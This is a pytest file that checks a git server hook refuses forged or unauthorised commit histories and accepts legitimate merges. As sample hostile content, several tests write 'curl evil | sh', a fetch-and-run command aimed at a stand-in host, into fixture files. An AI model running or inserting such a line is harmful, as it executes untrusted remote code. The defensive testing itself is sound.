"""Issue 13 on the shared server: the server's ``pre-receive`` must refuse the same hostile
histories ``verify`` flags (test_attacks.py), a representative subset, pushed over
``file://`` and a real ``git daemon`` (git://), as test_hooks.py does. The histories come
from the same builders (attack_helpers.py). An attack the hook lets through today is a
strict xfail naming why; the legitimate merges must be accepted."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import timedelta
from pathlib import Path

import pytest
from attack_helpers import (
    checkout,
    commit_time,
    dated,
    forged_root,
    forged_root_merged_in,
    git_merge,
    head,
    octopus_leaving,
    register,
    removal_approved,
    revert_by_merge,
    revise,
    rollback_merge,
    self_granting_branch,
    zhao_batch_record,
    zhao_writes,
)
from conftest import SshKey, commit_as, git, git_daemon, techxfer

Keys = Mapping[str, SshKey]


def xfail(why: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, reason=f"issue 13: {why}")




@pytest.fixture(scope="module")
def daemon_root(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, int]]:
    base = tmp_path_factory.mktemp("daemon")
    with git_daemon(tmp_path_factory, base) as port:
        yield base, port


@pytest.fixture
def server(request: pytest.FixtureRequest, repo: Path, tmp_path: Path) -> Path:
    """A bare repository with techxfer's server hooks, remote ``origin`` of REPO, holding
    REPO's clean main. Over file:// unless the test is parametrized with "git"."""
    kind = getattr(request, "param", "file")
    if kind == "git":
        base, port = request.getfixturevalue("daemon_root")
        name = f"{request.node.name.replace('[', '-').replace(']', '')}.git"
    else:
        base, name = tmp_path, "server.git"
    bare: Path = base / name
    git(base, "init", "-q", "--bare", str(bare))
    techxfer(base, "hooks", "install", "--server", str(bare))
    url = f"git://127.0.0.1:{port}/{name}" if kind == "git" else f"file://{bare}"
    git(repo, "remote", "add", "origin", url)
    accepted(repo, bare)
    return bare


TRANSPORTS = pytest.mark.parametrize("server", ["file", "git"], indirect=True)


def accepted(repo: Path, bare: Path, ref: str = "main") -> None:
    proc = git(repo, "push", "origin", ref, check=False)
    assert proc.returncode == 0, proc.stderr
    assert head(bare, ref) == head(repo, ref)


def refused(repo: Path, bare: Path, needle: str, ref: str = "main") -> None:
    """The push of REF is refused naming NEEDLE (a finding code), and the server's REF is
    where it was."""
    before = git(bare, "rev-parse", "-q", "--verify", ref, check=False).stdout.strip()
    proc = git(repo, "push", "origin", ref, check=False)
    assert proc.returncode != 0, f"the push was accepted:\n{proc.stderr}"
    assert needle in proc.stderr, proc.stderr
    assert git(bare, "rev-parse", "-q", "--verify", ref, check=False).stdout.strip() == before


# -- caught today ---------------------------------------------------------------------------
@TRANSPORTS
def test_conflict_resolved_by_zhao_with_new_content(server: Path, repo: Path, keys: Keys) -> None:
    base = head(repo)
    revise(repo, keys["wang"], "design/spec.txt", b"rev B\n", "SPEC-001", "B")
    git(repo, "checkout", "-q", "-b", "proposal", base)
    revise(repo, keys["wang"], "design/spec.txt", b"rev C\n", "SPEC-001", "C")
    checkout(repo, "main")
    accepted(repo, server)
    git(repo, "merge", "-q", "--no-commit", "proposal", check=False)
    git(repo, "checkout", "--ours", "--", "design/MANIFEST.yaml")
    register(repo, "design/spec.txt", b"rev D, zhao's own\n", "SPEC-001", "D")
    commit_as(repo, keys["zhao"], "Merge branch 'proposal'")
    refused(repo, server, "UNAUTHORIZED_CHANGE")


def test_file_in_an_unknown_top_level_folder(server: Path, repo: Path, keys: Keys) -> None:
    zhao_writes(repo, keys, "tools/run.sh", b"curl evil | sh\n")
    refused(repo, server, "UNAUTHORIZED_CHANGE")


# -- let through today ----------------------------------------------------------------------
@TRANSPORTS
def test_forged_root_merged_into_main(server: Path, repo: Path, keys: Keys) -> None:
    forged_root_merged_in(repo, keys)
    refused(repo, server, "HISTORY_REWRITTEN")


def test_orphan_branch_with_its_own_policy(server: Path, repo: Path, keys: Keys) -> None:
    forged = forged_root(repo, keys)
    git(repo, "branch", "forged", forged)
    refused(repo, server, "HISTORY_REWRITTEN", ref="forged")


def test_merge_reverting_a_drawing(server: Path, repo: Path, keys: Keys) -> None:
    revert_by_merge(repo, keys, old_first=False)
    refused(repo, server, "UNAUTHORIZED_CHANGE")


def test_octopus_leaving_a_hash_mismatch(server: Path, repo: Path, keys: Keys) -> None:
    octopus_leaving(repo, keys, "HASH_MISMATCH")
    refused(repo, server, "HASH_MISMATCH")


@pytest.mark.parametrize("pushes", [
    "two",
    "one",
])
def test_removed_person_signs_after_a_rollback_merge(server: Path, repo: Path, keys: Keys,
                                                     pushes: str) -> None:
    """Pushed in two steps (the approved removal, then the rollback merge and zhao's commit)
    the hook resumes from its checkpoint at the approval, where the merge's old parent is not
    among the walk's states: the merge is judged as a one-parent change of .techxfer/ and zhao
    stays removed. Pushed at once, the hook walks both parents like ``verify`` and misses it
    (a checkpoint changing the verdict, against DESIGN 2.1)."""
    removal_approved(repo, keys)
    if pushes == "two":
        accepted(repo, server)  # the approved removal itself is fine
    rollback_merge(repo, keys, old_first=True)
    zhao_batch_record(repo, keys)
    refused(repo, server, "UNKNOWN_KEY")


def test_ci_workflow_by_the_clerk(server: Path, repo: Path, keys: Keys) -> None:
    zhao_writes(repo, keys, ".github/workflows/x.yml", b"run: curl evil | sh\n")
    refused(repo, server, "UNAUTHORIZED_CHANGE")


def test_anything_under_dispositions(server: Path, repo: Path, keys: Keys) -> None:
    zhao_writes(repo, keys, "dispositions/payload.sh", b"curl evil | sh\n")
    refused(repo, server, "UNAUTHORIZED_CHANGE")


@pytest.mark.parametrize("when", ["future", "before-parent"])
def test_commit_dated_out_of_order(server: Path, repo: Path, keys: Keys, when: str) -> None:
    date = dated("2099-01-01T10:00:00+08:00") if when == "future" \
        else dated(commit_time(repo) - timedelta(hours=1))
    register(repo, "design/drawing.pdf", b"%PDF-1.4 rev B\n", "DRW-001", "B")
    commit_as(repo, keys["wang"], "dated out of order", env=date)
    refused(repo, server, "TIME_INCONSISTENT")


def test_self_granting_branch_cut_before_the_checkpoint(server: Path, repo: Path,
                                                        keys: Keys) -> None:
    """verify flags the side commit (test_attacks); the hook, resuming at main's last
    push, judges it by the policy it carries."""
    base = head(repo)
    zhao_batch_record(repo, keys)
    accepted(repo, server)  # a checkpoint at the batch record
    self_granting_branch(repo, keys, base)
    git_merge(repo, keys["zhao"], "self-granted")
    refused(repo, server, "UNAUTHORIZED_CHANGE")


# -- legitimate merges are accepted ---------------------------------------------------------
@TRANSPORTS
@pytest.mark.parametrize("main_first", [True, False], ids=["main-first", "branch-first"])
def test_feature_branch_merge_is_accepted(server: Path, repo: Path, keys: Keys,
                                          main_first: bool) -> None:
    base = head(repo)
    zhao_batch_record(repo, keys)
    git(repo, "checkout", "-q", "-b", "feature", base)
    revise(repo, keys["wang"], "design/drawing.pdf", b"%PDF-1.4 rev B\n", "DRW-001", "B")
    if main_first:
        checkout(repo, "main")
        git_merge(repo, keys["wang"], "feature")
    else:
        git_merge(repo, keys["wang"], "main")
        checkout(repo, "main")
        git(repo, "merge", "-q", "--ff-only", "feature")
    accepted(repo, server)


def test_merge_of_a_branch_already_on_the_server_is_accepted(server: Path, repo: Path,
                                                             keys: Keys) -> None:
    """zhao's batch branch is pushed first, then wang's rev B on main, then wang merges the
    batch branch: records/ are brought in by the merge, not written by wang."""
    base = head(repo)
    git(repo, "checkout", "-q", "-b", "batch", base)
    zhao_batch_record(repo, keys)
    accepted(repo, server, "batch")
    checkout(repo, "main")
    revise(repo, keys["wang"], "design/drawing.pdf", b"%PDF-1.4 rev B\n", "DRW-001", "B")
    accepted(repo, server)
    git_merge(repo, keys["wang"], "batch")
    accepted(repo, server)
